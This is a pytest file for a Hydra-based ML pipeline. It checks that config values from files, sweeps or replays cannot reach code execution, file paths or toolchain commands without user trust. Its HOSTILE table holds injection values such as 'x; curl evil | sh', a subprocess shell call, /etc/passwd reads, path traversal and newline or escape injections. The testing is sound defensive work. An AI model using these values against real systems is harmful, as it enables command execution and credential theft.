"""Every key of the config is in the table of ``reach.py``; hostile values come through no door."""

import re
from collections.abc import Callable, Iterator
from dataclasses import fields, is_dataclass
from enum import Enum
from itertools import zip_longest
from pathlib import Path
from typing import Any, get_args, get_type_hints

import pytest
import yaml
from hydra._internal.config_loader_impl import ConfigLoaderImpl
from hydra._internal.utils import create_config_search_path
from hydra.core.utils import setup_globals
from hydra.types import RunMode
from omegaconf import OmegaConf

from pipeline.errors import ThimbleError
from pipeline.home import ROOT
from pipeline.runner import allowed, launchers, reach, replay, schema
from pipeline.runner.command import PLUGINS
from pipeline.runner.fields import fields as fields_of
from pipeline.runner.schema import CODE_GROUPS
from tests.programs import written
from tests.tiers import quick

CONF = ROOT / "conf"
HOSTILE: dict[str, Any] = {
    **{f"{group}._target_": "os.mkdir" for group in CODE_GROUPS},
    "model.factory": "subprocess:getoutput",
    "model.kwargs": {"cmd": "touch pwned"},
    "model.path": "/etc/passwd",
    "model.state_dict": "~/../../etc/passwd",
    "data.path": "../secret.npz",
    "train.weights": "../../secret",
    "train.device": "cpu\n",
    "passes": ["os.path"],
    "model.activation": "relu;",
    "model.blocks": [{"kind": "conv()"}],
    "strategy.until": "a\nb",
    "hardware.name": "a\nb",
    "hardware.title": "*/\n#include </etc/passwd>",
    "hardware.power": {"source": "\x1b]0;pwned\x07"},
    "hardware.core": "../../evil",
    "hardware.part": "m328 -C evil.conf",
    "hardware.toolchain": {"compiler": "./evil"},
    "hardware.toolchain.flags": ["-fplugin=evil.so"],
    "hardware.toolchain.package": "x; curl evil | sh",
    "hardware.flasher": "openocd -c 'exec touch pwned'",
    "hardware.platformio": "ststm32/x\nextra_scripts = evil.py",
    "hardware.regions": [{"name": "} OUTPUT(/pwned) {", "start": 0, "bytes": 1}],
    "hardware.card.driver": "../evil",
    "prune.hardware": {"toolchain": {"objdump": "./evil"}},
    "target.port": "/dev/tty/../sda",
    "codegen.prefix": "../nn",
    "codegen.labels": ["\x00"],
    "package.library": "a\nb",
    "package.version": "1\nx",
    "cache.remote": "ssh://evil/cache",
    "study": [{"seed": "1\x00"}],
    "figure": {"title": "\x1b[2J"},
    "model.name": "a\nb",
    "hydra.callbacks": {"evil": {"_target_": "os.mkdir"}},
    "hydra.callbacks.check._target_": "os.mkdir",
    "hydra.sweeper._target_": "os.mkdir",
    "hydra.sweeper.params": {"seed": {"_target_": "os.mkdir", "path": "pwned"}},
    "hydra.sweeper.jobs": ["\x00"],
    "hydra.sweeper.sampler": "os.system",
    "hydra.sweeper.storage": "mysql://evil/db",
    "hydra.launcher._target_": "os.mkdir",
    "hydra.launcher.name": "a\ntouch pwned",
    "hydra.launcher.ray": {"init": {"address": "evil:1"}},
    "hydra.launcher.setup": ["touch pwned"],
    "hydra.searchpath": ["pkg://evil"],
    "hydra.overrides": {"hydra": ["hydra.searchpath=[pkg://evil]"]},
    "hydra.job.env_set": {"PATH": "/evil"},
    "hydra.job_logging": {"handlers": {"evil": {"class": "logging.FileHandler"}}},
    "hydra.run.dir": "outputs/{} [exec touch pwned]",
    "hydra.sweep.dir": "multirun/../../pwned",
    "hydra.sweep.subdir": "${hydra.job.override_dirname}",
    "hydra.output_subdir": "../../pwned",
    "hydra.help.header": "\x1b[2J",
    "hydra.verbose": "\x00",
    "hydra.callbacks.check": {"_target_": "os.mkdir", "path": "pwned"},
    "hydra.sweeper": {"params": {"x": {"_target_": "os.mkdir"}}},
    "hydra.hydra_logging.handlers": {"evil": {"class": "os.mkdir"}},
    "hydra.run": {"dir": "outputs/../pwned"},
    "hydra.launcher": {"name": "${.x}", "x": "a\nb"},
}
"""For each line of the table a value that a file must not give, and other ways to give some."""


@pytest.fixture(autouse=True)
def nothing_typed(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv(allowed.WORDS, "[]")
    monkeypatch.setenv("THIMBLE_TYPED", str(tmp_path))
    schema.register()
    launchers.register(PLUGINS)
    setup_globals()


def nested(key: str, value: Any) -> dict[str, Any]:
    for name in reversed(key.split(".")):
        value = {name: value}
    return value  # type: ignore[no-any-return]


def holds(config: Any) -> None:
    allowed.task(config, [])
    if "hydra" in config:
        allowed.check(config)


def test_each_line_has_a_hostile_value() -> None:
    tried = {
        reach.line(leaf)
        for key, v in HOSTILE.items()
        for leaf, *_ in allowed.leaves(nested(key, v))
    }
    assert set(reach.TABLE) <= tried, set(reach.TABLE) - tried


@pytest.mark.parametrize("key", HOSTILE)
def test_only_what_is_typed_or_trusted_is_taken(key: str, monkeypatch: pytest.MonkeyPatch) -> None:
    config = OmegaConf.create(nested(key, HOSTILE[key]))
    with pytest.raises(ThimbleError, match=re.escape(key)) as caught:
        holds(config)
    said = str(caught.value)
    assert "not taken from a file, it reaches" in said and "\n" not in said
    monkeypatch.setenv("THIMBLE_TRUST", "1")
    holds(config)


def test_what_is_typed_counts_with_its_value_and_no_other(monkeypatch: pytest.MonkeyPatch) -> None:
    """A file's study, or jobs, may give the same key another value."""
    allowed.listen(
        ["-m", "--config-dir=x", "model.factory=a.b:Net,c:D", "+model.kwargs={x: [y, z]}"]
    )
    for value in ("a.b:Net", "c:D"):
        kwargs = {"x": ["y", "z"]}
        holds(OmegaConf.create({"model": {"factory": value, "kwargs": kwargs}}))
    for wrong in ({"factory": "os:system"}, {"kwargs": {"x": ["w"]}}, {"kwargs": {"y": "y"}}):
        with pytest.raises(ThimbleError, match=r"model\."):
            holds(OmegaConf.create({"model": wrong}))


def test_files_beside_a_config_or_below_the_folder(tmp_path: Path) -> None:
    there = tmp_path / "theirs"
    there.mkdir()
    (tmp_path / "here").mkdir()
    (there / "link").symlink_to("/etc/passwd")
    for path, folders, fine in (
        ("theirs/net.onnx", [], True),
        (str(there / "net.onnx"), [], True),
        ("theirs/../net.onnx", [], True),
        ("../net.onnx", [], False),
        ("theirs/link", [there], False),
        ("/etc/hostname", [Path("/etc")], True),
        ("/etchostname", [Path("/etc")], False),
    ):
        config = OmegaConf.create({"model": {"path": path}})
        if fine:
            allowed.task(config, folders)
        else:
            with pytest.raises(ThimbleError, match=r"model\.path="):
                allowed.task(config, folders)


def test_a_path_that_is_typed_opens_no_other_and_references_are_followed() -> None:
    """``model.factory`` may refer to text that is harmless where it stands."""
    allowed.listen(["data.path=/etc"])
    allowed.task(OmegaConf.create({"data": {"path": "/etc/"}}), [])
    for wrong in (
        {"data": {"path": "/etc/passwd"}},
        {"data": {"path": "/etc"}, "model": {"path": "/etc"}},
    ):
        with pytest.raises(ThimbleError, match=r"\.path=/etc"):
            allowed.task(OmegaConf.create(wrong), [])
    config = OmegaConf.create(
        {"figure": {"x": "os:system", "0": ""}, "n": "???", "model": {"factory": "${figure.${n}}"}}
    )
    with pytest.raises(ThimbleError, match=r"model\.factory"):
        allowed.task(config, [])  # not resolved yet, and no harmless text
    config.n = "x"
    with pytest.raises(ThimbleError, match=r"model\.factory=os:system"):
        allowed.task(config, [])
    config = OmegaConf.create({"hydra": {"callbacks": {"a\nb": {"_target_": "os.mkdir"}}}})
    with pytest.raises(ThimbleError, match=r"_target_=os.mkdir: not taken"):
        holds(config)  # the names of keys hide nothing


# the four doors


def loader(folder: Path) -> ConfigLoaderImpl:
    """Make what Hydra composes with for ``--config-dir=folder``."""
    path = create_config_search_path(str(CONF))
    path.append("command-line", f"file://{folder}")
    path.append("schema", "structured://")
    return ConfigLoaderImpl(path)


def experiment(folder: Path, key: str) -> None:
    text = "# @package _global_\n" + yaml.safe_dump(nested(key, HOSTILE[key]))
    written(folder, {"experiment/evil.yaml": text})
    holds(loader(folder).load_configuration("config", ["experiment=evil"], RunMode.RUN))


def swept(folder: Path, key: str) -> None:
    """A job of a sweep that a file has, as a study's value."""
    one = loader(folder)
    master = one.load_configuration("config", [], RunMode.MULTIRUN)
    holds(one.load_sweep_config(master, [f"++{key}={_grammar(HOSTILE[key])}"]))


def _grammar(value: Any) -> str:
    """``value`` as an override gives it."""
    if isinstance(value, dict):
        return "{" + ",".join(f"{k}:{_grammar(v)}" for k, v in value.items()) + "}"
    if isinstance(value, list):
        return f"[{','.join(map(_grammar, value))}]"
    return f'"{value}"' if isinstance(value, str) else str(value)


def replayed(folder: Path, key: str) -> None:
    replay.Record(folder, nested(key, HOSTILE[key]), {"environment": {}}).config({})


DOORS: dict[str, Callable[[Path, str], None]] = {
    "experiment=": experiment,
    "sweep": swept,
    "replay=": replayed,
}
FEW = [(door, "hardware.flasher") for door in DOORS]
EVERY = [
    (door, key)
    for door in DOORS
    for key in HOSTILE
    if not (door == "replay=" and key.startswith(("hydra.", *replay.HERE)))
]


@pytest.mark.parametrize(("door", "key"), quick(FEW, EVERY, 9))
def test_hostile_values_come_through_no_door(
    door: str, key: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "theirs"
    folder.mkdir()
    with monkeypatch.context() as patched:
        for name in ("load_configuration", "_process_config_searchpath"):
            patched.setattr(ConfigLoaderImpl, name, getattr(ConfigLoaderImpl, name))
        allowed.guard()
        with pytest.raises(Exception, match=rf"{re.escape(key)}|searchpath") as caught:
            DOORS[door](folder, key)
    error = caught.value
    assert isinstance(error, ThimbleError) or "searchpath" in str(error), repr(error)


# the table has every key


def texts(kind: Any, key: str) -> Iterator[str]:
    """Yield the keys below ``key`` that may hold text, or anything, by schema or class."""
    inner = [each for each in get_args(kind) if each is not type(None) and each is not ...]
    if isinstance(kind, type) and is_dataclass(kind):
        hints = get_type_hints(kind)
        for each in fields(kind):
            yield from texts(hints[each.name], f"{key}.{each.name}".lstrip("."))
    elif inner:
        for each in inner:
            yield from texts(each, key)
    elif kind in (str, dict, list, Any) or not (
        isinstance(kind, type) and issubclass(kind, Enum | int | float)
    ):
        yield key


def test_each_key_that_can_hold_text_has_a_line() -> None:
    wanted = [key for key in texts(schema.Config, "") if key not in CODE_GROUPS]
    for group in CODE_GROUPS:
        for file in sorted((CONF / group).glob("*.yaml")):
            target = OmegaConf.load(file)._target_
            found = fields_of(ROOT, target)
            assert found is not None
            for name, kind in found.items():
                wanted += texts(kind, f"{group}.{name}")
            wanted += [f"{group}.name", f"{group}._target_"]
    own = ("prune.hardware", "prune.strategy")  # whole nodes, with the lines of these
    missing = {key for key in wanted if key not in own and not _listed(key)}
    assert not missing, f"say in pipeline/runner/reach.py what these can reach: {missing}"


def _listed(key: str) -> bool:
    return reach.line(key) != reach.REST or reach.line(f"{key}.x") != reach.REST


@pytest.mark.ci
def test_all_that_is_composed_has_lines_and_is_allowed() -> None:
    groups = [path for path in sorted(CONF.iterdir()) if path.is_dir() and path.name != "hydra"]
    options = [[f"{path.name}={o.stem}" for o in sorted(path.glob("*.yaml"))] for path in groups]
    hydra = [f"hydra/{o.parent.name}={o.stem}" for o in sorted(CONF.glob("hydra/*/*.yaml"))]
    for words in zip_longest(*options, hydra):
        given = [word for word in words if word]
        config = schema.composed(*given, hydra=True)
        allowed.check(config, given)
        allowed.task(config, [])
        for key, value, _ in allowed.leaves(config):
            text = isinstance(value, str) and not re.fullmatch(r"[a-z_]*", value)
            assert not text or _listed(key), (key, value)
